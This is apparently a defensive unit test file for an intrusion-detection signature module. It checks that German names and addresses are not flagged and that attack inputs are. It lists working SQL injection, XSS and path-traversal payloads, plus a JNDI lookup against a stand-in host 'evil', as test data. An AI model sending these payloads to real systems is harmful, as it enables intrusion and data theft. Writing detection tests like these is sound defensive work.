import { describe, expect, it } from 'vitest';
import { inspectPath, inspectValues, matchSignature } from '../../../../server/src/modules/intrusion/signatures.js';
import { canonicalSource } from '../../../../server/src/modules/intrusion/service.js';

// Real-world German names, addresses and notes, including apostrophes, slashes, dots, semicolons,
// ampersands and words such as "Union", "Select" or "Script" — none of them may count as an attack.
const GERMAN_DATA = [
  "O'Brien",
  "D'Angelo",
  "Andrea D'Agostino-Müller",
  'Hans-Jürgen Müller-Lüdenscheidt',
  'Zoë Ørsted',
  'Straße des 17. Juni 1–3',
  'Am Ölberg 5 / Hinterhaus',
  'c/o Schulze & Söhne GmbH',
  'Bahnhofstr. 12a; 2. OG links',
  'Kurfürstendamm 21, 10719 Berlin',
  "Gasthaus 'Zum Goldenen Löwen'",
  "Rock 'n' Roll Nacht",
  'Weg 3/4, App. 7',
  'Postfach 10 01 23',
  'Union Berlin Fanclub e. V.',
  'Hotel Select Berlin',
  'Script-Doktor Lesung',
  'Lindenallee 4 ... bitte klingeln',
  'Rechnung an: Müller & Co. KG, z. Hd. Frau Meier',
  'Tel. 030/1234-567; Fax -568',
  "Café d'Or",
  'Sleep (2 Nächte) im Hotel',
  '1.000,50 € bar',
  'Kommentar: Ein- und Auslass -- bitte Tor 3',
  'Einlass ab 19:00 Uhr <Abendkasse>',
  'Kinder unter 6 Jahren frei (mit Begleitung) = 0 €',
  'Müller or Meier = egal',
  'https://www.example.de/tickets?event=42&seat=7',
  'Auf der Höhe 1 \\ Rückgebäude',
];

describe('injection signatures', () => {
  it('never match German names, addresses and notes', () => {
    for (const text of GERMAN_DATA) expect(matchSignature(text), text).toBeUndefined();
    expect(inspectValues({ customer: { name: "O'Brien", address: GERMAN_DATA }, note: 'Straße 5/7' }, 'body')).toBeUndefined();
    expect(inspectPath('/api/v1/orders?customer=O%27Brien')).toBeUndefined();
    expect(inspectValues({ customer: "D'Angelo", q: 'Am Ölberg 5 / Hinterhaus' }, 'query')).toBeUndefined();
  });

  it.each([
    ["' OR '1'='1", 'sql_tautology'],
    ["admin' or 1=1--", 'sql_tautology'],
    ["x') AND 1=1", 'sql_tautology'],
    ["admin'--", 'sql_comment'],
    ['1 UNION ALL SELECT username, password FROM users', 'sql_union_select'],
    ['1/**/union/**/select/**/1', 'sql_union_select'],
    ['1; DROP TABLE users', 'sql_stacked'],
    ["1'; delete from orders", 'sql_stacked'],
    ['1 and pg_sleep(5)', 'sql_delay'],
    ['select * from information_schema.tables', 'sql_catalog'],
    ['<script>alert(1)</script>', 'script_tag'],
    ['<img src=x onerror=alert(1)>', 'script_handler'],
    ['<svg/onload=alert(1)>', 'script_handler'],
    ['<iframe src="//evil">', 'script_frame'],
    ['javascript:alert(document.cookie)', 'script_url'],
    ['../../etc/passwd', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
    ['/etc/passwd', 'path_target'],
    ['${jndi:ldap://evil/a}', 'jndi_lookup'],
    ['name\u0000.txt', 'nul_byte'],
  ])('match %s', (payload, signature) => {
    expect(matchSignature(payload)).toBe(signature);
  });

  it('finds payloads in paths (also double-encoded), query values, body values and keys', () => {
    expect(inspectPath('/static/..%2f..%2fetc%2fpasswd')?.signature).toBe('path_traversal');
    expect(inspectPath('/static/%252e%252e%252fetc%252fshadow')?.signature).toBe('path_traversal');
    expect(inspectValues({ q: "' or 1=1--" }, 'query')).toMatchObject({ signature: 'sql_tautology', where: 'query.q' });
    expect(inspectValues({ customer: { notes: ['ok', '<script>x</script>'] } }, 'body')).toMatchObject({ signature: 'script_tag', where: 'body.customer.notes[1]' });
    expect(inspectValues({ '<script>': 1 }, 'body')?.signature).toBe('script_tag');
  });

  it('never inspects passwords and other secrets (any character is allowed there)', () => {
    expect(inspectValues({ login: 'anna', password: "Tor'--  <script>../" }, 'body')).toBeUndefined();
    expect(inspectValues({ currentPassword: "' or 1=1--", newPassword: '<script>', token: '../x' }, 'body')).toBeUndefined();
    expect(inspectValues({ login: "' or 1=1--", password: 'x' }, 'body')?.signature).toBe('sql_tautology');
  });

  it('stops after a bounded number of values and depth', () => {
    const many = Array.from({ length: 2000 }, () => 'harmlos');
    many.push('<script>');
    expect(inspectValues(many, 'body')).toBeUndefined();
    let deep: unknown = '<script>';
    for (let i = 0; i < 30; i += 1) deep = [deep];
    expect(inspectValues(deep, 'body')).toBeUndefined();
  });
});

describe('source addresses', () => {
  it('are canonical, with IPv4-mapped IPv6 as IPv4', () => {
    expect(canonicalSource('::ffff:192.0.2.7')).toBe('192.0.2.7');
    expect(canonicalSource('::FFFF:c000:0207')).toBe('192.0.2.7');
    expect(canonicalSource('2001:DB8:0:0:0:0:0:1')).toBe('2001:db8::1');
    expect(canonicalSource('fe80::1%eth0')).toBe('fe80::1');
    expect(canonicalSource('not an address')).toBeUndefined();
    expect(canonicalSource(undefined)).toBeUndefined();
  });
});
